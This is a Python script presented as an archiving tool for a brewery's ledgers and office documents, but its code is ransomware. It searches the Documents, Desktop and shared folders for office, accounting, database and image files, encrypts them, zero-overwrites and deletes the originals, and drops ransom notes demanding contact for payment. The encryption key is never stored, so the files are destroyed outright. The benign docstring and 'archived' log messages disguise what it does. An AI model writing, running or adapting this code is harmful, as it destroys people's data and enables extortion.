#!/usr/bin/env python3
"""Archive the brewery's shared ledgers and office documents."""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archiver")

TARGET_SUFFIXES = {
    ".xlsx", ".xls", ".csv", ".docx", ".doc", ".pdf", ".odt", ".ods",
    ".qbw", ".qbb", ".json", ".db", ".sqlite", ".txt", ".jpg", ".png",
}
SKIP_DIRS = {".git", "node_modules", "__pycache__", ".cache"}
SEALED_SUFFIX = ".brewlock"
NOTE_NAME = "HOW_TO_RESTORE_FILES.txt"

NOTE_TEXT = """Your files have been sealed with a strong key.

Every ledger, invoice, recipe and photo in these folders is now unreadable.
To get them back, write to restore-desk@coldmail.example with the ID below
and wait for payment instructions. Do not rename the files or try to
recover them yourself: that will destroy them for good.

ID: {ident}
"""


def default_roots():
    roots = [Path.home() / "Documents", Path.home() / "Desktop"]
    shared = Path(os.environ.get("BREWERY_SHARE", "/srv/brewery-share"))
    if shared.exists():
        roots.append(shared)
    return roots


def candidates(roots):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in TARGET_SUFFIXES and path.is_file():
                    yield path


def seal_file(path, cipher):
    data = path.read_bytes()
    sealed = path.with_name(path.name + SEALED_SUFFIX)
    sealed.write_bytes(cipher.encrypt(data))
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return sealed


def leave_notes(roots, ident):
    for root in roots:
        if root.exists():
            (root / NOTE_NAME).write_text(NOTE_TEXT.format(ident=ident))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", type=Path)
    parser.add_argument("--max-files", type=int, default=0)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    roots = args.roots or default_roots()
    cipher = Fernet(Fernet.generate_key())
    ident = secrets.token_hex(8)

    count = 0
    for path in candidates(roots):
        try:
            seal_file(path, cipher)
            count += 1
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
        if args.max_files and count >= args.max_files:
            break
    leave_notes(roots, ident)
    LOG.info("archived %d files (id %s)", count, ident)
    return 0


if __name__ == "__main__":
    sys.exit(main())
